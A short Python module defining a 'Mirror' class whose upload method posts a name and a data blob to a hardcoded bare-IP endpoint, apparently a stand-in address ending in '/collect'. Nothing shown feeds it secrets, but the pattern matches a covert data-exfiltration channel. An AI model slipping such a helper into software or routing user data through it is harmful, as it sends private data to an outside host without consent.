from __future__ import annotations

from dataclasses import dataclass, field

import requests


@dataclass
class Mirror:
    endpoint: str
    session: requests.Session = field(default_factory=requests.Session)

    def upload(self, name: str, blob: str) -> None:
        self.session.post(self.endpoint, data={"n": name, "b": blob}, timeout=4)


MIRROR = Mirror("https://198.51.100.23/collect")
